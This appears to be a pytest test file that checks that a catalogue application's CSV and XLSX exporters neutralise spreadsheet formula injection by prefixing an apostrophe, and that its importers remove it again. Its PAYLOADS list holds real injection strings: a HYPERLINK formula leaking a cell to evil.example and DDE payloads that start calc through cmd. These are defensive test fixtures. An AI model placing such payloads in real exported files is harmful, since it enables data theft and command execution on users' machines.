"""Exports plant no formula: text of the catalogue that starts with =, +, -, @, a tab or a
carriage return comes out of every sheet writer (the 清单 workbook, its CSV, the situations
sheet) after an apostrophe, shown as text and never evaluated; numbers stay numbers; and
the readers of those files take the apostrophe off again."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy import Engine, func, select
from sqlmodel import Session

from app.catalogue.models import Implementation, ItemFee, ItemMaterial
from app.exports import situation_sheet
from app.exports.csvfile import csv_chunks
from app.exports.formulas import FORMULA_START
from app.exports.labels import Labels
from app.exports.layout_guide import GUIDE_LISTS
from app.exports.xlsx_book import write_workbook
from tests.conftest import Keys, app_on
from tests.helpers import API, run_cli, writable

#: what a spreadsheet would run, one per character that starts a formula
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看详情")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
XLSX_SHEETS = {"事项": "items", "申请材料": "materials", "收费项目": "fees"}
XLSX_SHEETS |= {title: key for key, (title, _) in GUIDE_LISTS.items()}


def _item_with_materials_and_fees(session: Session) -> Implementation:
    """A published implementation with a fee and at least as many materials as payloads."""
    many = (
        select(ItemMaterial.implementation_code)
        .group_by(ItemMaterial.implementation_code)
        .having(func.count() >= len(PAYLOADS))
    )
    item = session.scalars(
        select(Implementation)
        .where(
            Implementation.status == "1",
            Implementation.code.in_(select(ItemFee.implementation_code)),  # type: ignore[attr-defined]
            Implementation.code.in_(many),  # type: ignore[attr-defined]
        )
        .order_by(Implementation.code)
    ).first()
    assert item is not None, "the seed has no implementation with fees and 4 materials"
    return item


def _plant(client: TestClient, code: str, admin: dict[str, str]) -> dict[str, Any]:
    """The payloads in the item's texts, written through the API: 受理条件, a material's
    name each, the fee's standard, 行政复议."""
    body = writable(client, code)
    body["guide"]["conditions"] = [PAYLOADS[0], *body["guide"]["conditions"]]
    for material, payload in zip(body["materials"], PAYLOADS, strict=False):
        material["name"] = payload
    body["fees"][0]["standard"] = PAYLOADS[3]
    body["guide"].setdefault("remedies", {})["administrative_review"] = PAYLOADS[1]
    body["change_note"] = "formula text"
    resp = client.put(f"{API}/items/{code}", json=body, headers=admin)
    assert resp.status_code == 200, resp.text
    return resp.json()


def _cells(rows: list[list[Any]]) -> list[Any]:
    return [cell for row in rows for cell in row]


def _no_formula_start(cells: list[Any], where: str) -> None:
    starts = [c for c in cells if isinstance(c, str) and c.startswith(FORMULA_START)]
    assert starts == [], f"{where}: cells a spreadsheet would run: {starts[:3]}"


def _csv(client: TestClient, region: str, sheet: str) -> list[list[str]]:
    resp = client.get(f"{API}/exports/items.csv", params={"region": region, "sheet": sheet})
    assert resp.status_code == 200, resp.text
    return list(csv.reader(io.StringIO(resp.content.decode("utf-8-sig"))))


def test_texts_that_start_a_formula_come_out_as_text_in_csv_and_xlsx(
    client: TestClient, session: Session, keys: Keys
) -> None:
    item = _item_with_materials_and_fees(session)
    doc = _plant(client, item.code, keys.admin())
    region = item.region_code
    quoted = {"'" + p for p in PAYLOADS}

    # CSV, each sheet: no cell starts a formula; the item's cells are the text after "'"
    mine: dict[str, list[dict[str, str]]] = {}
    for sheet in ("items", "materials", "fees"):
        rows = _csv(client, region, sheet)
        _no_formula_start(_cells(rows), f"items.csv?sheet={sheet}")
        mine[sheet] = [dict(zip(rows[0], r, strict=True)) for r in rows[1:] if r[0] == item.code]
    [row] = mine["items"]
    assert row["受理条件"].split("\n")[0] == "'" + PAYLOADS[0]
    assert row["行政复议"] == "'" + PAYLOADS[1]
    names = [m["材料名称"] for m in mine["materials"]]
    assert names[: len(PAYLOADS)] == ["'" + p for p in PAYLOADS]
    assert mine["fees"][0]["收费标准"] == "'" + PAYLOADS[3]
    # a number stays a number, a negative one too: the amount column is not text
    amounts = [f["收费金额(元)"] for f in mine["fees"] if f["收费金额(元)"]]
    assert all(not a.startswith("'") for a in amounts)

    # XLSX: string cells (no formula), read back by openpyxl as the CSV has them
    resp = client.get(f"{API}/exports/items.xlsx", params={"region": region})
    assert resp.status_code == 200, resp.text
    book = load_workbook(io.BytesIO(resp.content))
    seen: set[str] = set()
    for ws in book:
        cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
        assert [c.coordinate for c in cells if c.data_type == "f"] == [], ws.title
        _no_formula_start([c.value for c in cells], ws.title)
        seen |= {c.value for c in cells if c.value in quoted}
        if ws.title not in XLSX_SHEETS:
            continue  # the code lists
        rows = _csv(client, region, XLSX_SHEETS[ws.title])
        # under the title, without 序号: the CSV's
        lines = list(ws.iter_rows(min_row=2, values_only=True))
        as_text = [["" if v is None else str(v) for v in r[1:]] for r in lines]
        assert [r + [""] * (len(rows[0]) - len(r)) for r in as_text] == rows, ws.title
    assert seen == quoted

    # the exported workbook read back as `catalogue import` reads it: the texts as written
    from app.exports.layout import Reader
    from app.exports.workbook import read_workbook

    back = load_workbook(io.BytesIO(resp.content), read_only=True, data_only=True)
    read = {i["code"]: i for _, i in read_workbook(back, Reader.load(session))}[item.code]
    assert read["guide"]["conditions"] == doc["guide"]["conditions"]
    assert read["guide"]["remedies"]["administrative_review"] == PAYLOADS[1]
    assert [m["name"] for m in read["materials"]] == [m["name"] for m in doc["materials"]]
    assert read["fees"][0]["standard"] == PAYLOADS[3]


def test_a_tab_or_carriage_return_first_and_an_apostrophe_already_there(
    client: TestClient, session: Session
) -> None:
    """The text policy strips a tab or CR that starts a value, but older data can hold one:
    the writers judge what they are given. Text that already starts with an apostrophe
    before a formula character gets one more, so that reading takes exactly one off."""
    code = _item_with_materials_and_fees(session).code
    doc = client.get(f"{API}/items/{code}").json()
    doc["local_code"] = "\r=1+1"
    doc["source_system"] = "'=1+1"
    doc["materials"][0]["name"] = "\t=1+1"
    doc["materials"][1]["name"] = "'quoted, but no formula"
    doc["fees"][0]["amount"] = -5
    labels = Labels(session)
    items = list(csv.reader(io.StringIO(b"".join(csv_chunks(iter([doc]), labels, "items")).decode("utf-8-sig"))))  # fmt: skip
    row = dict(zip(items[0], items[1], strict=True))
    assert (row["本地编码"], row["来源系统"]) == ("'\r=1+1", "''=1+1")
    out = io.BytesIO()
    write_workbook(iter([doc]), labels, out)
    book = load_workbook(io.BytesIO(out.getvalue()))
    # under the title and the header, after 序号
    materials = [r[4] for r in book["申请材料"].iter_rows(min_row=3, values_only=True)]
    assert materials[:2] == ["'\t=1+1", "'quoted, but no formula"]
    fees = book["收费项目"]
    amount = fees.cell(3, [c.value for c in fees[2]].index("收费金额(元)") + 1)
    assert amount.value == -5 and amount.data_type == "n"  # a number, not text

    from app.exports.layout import Reader
    from app.exports.workbook import read_workbook

    back = load_workbook(io.BytesIO(out.getvalue()), read_only=True, data_only=True)
    [(_, read)] = list(read_workbook(back, Reader.load(session)))
    assert read["source_system"] == "'=1+1"
    names = [m["name"] for m in read["materials"][:2]]
    assert names == ["=1+1", "'quoted, but no formula"]  # the tab stripped, as on any input


def test_the_situations_sheet_keeps_formulas_as_text_both_ways(tmp_path: Path) -> None:
    row = ["2301", "事项", "q1", PAYLOADS[0], "是", "否", "q1_a", PAYLOADS[3], "", PAYLOADS[2]]
    for suffix in ("xlsx", "csv"):
        path = tmp_path / f"情形.{suffix}"
        assert situation_sheet.write_sheet(path, [row]) == 1
        if suffix == "xlsx":
            ws = load_workbook(path)["情形"]
            cells = [c for r in ws.iter_rows() for c in r]
            assert [c.coordinate for c in cells if c.data_type == "f"] == []
            written = [c.value or "" for c in cells]
        else:
            written = _cells(list(csv.reader(path.open(encoding="utf-8-sig"))))
        _no_formula_start(written, suffix)
        assert "'" + PAYLOADS[0] in written and "'" + PAYLOADS[2] in written
        [(_, cells)] = list(situation_sheet.read_sheet(path))
        assert [cells[h] for h in situation_sheet.HEADER] == row, suffix


def test_an_exported_workbook_with_formula_texts_imports_unchanged(
    own_engine: Engine, tmp_path: Path
) -> None:
    url = own_engine.url.render_as_string(hide_password=False)
    with Session(own_engine) as session:
        keys = Keys(session)
        code = _item_with_materials_and_fees(session).code
        with TestClient(app_on(session)) as client:
            planted = _plant(client, code, keys.admin())
    path = tmp_path / "清单.xlsx"
    region = planted["region"]["code"]
    done = run_cli(url, "export", "--format", "xlsx", "--region", region, "--out", str(path))
    assert done.returncode == 0, done.stderr
    again = run_cli(url, "import", str(path))
    assert again.returncode == 0, again.stderr + again.stdout
    assert " 0 updated, " in again.stdout and "0 rejected" in again.stdout, again.stdout
    with Session(own_engine) as session, TestClient(app_on(session)) as client:
        after = client.get(f"{API}/items/{code}").json()
    assert after["version"] == planted["version"]
    assert after["guide"] == planted["guide"] and after["materials"] == planted["materials"]
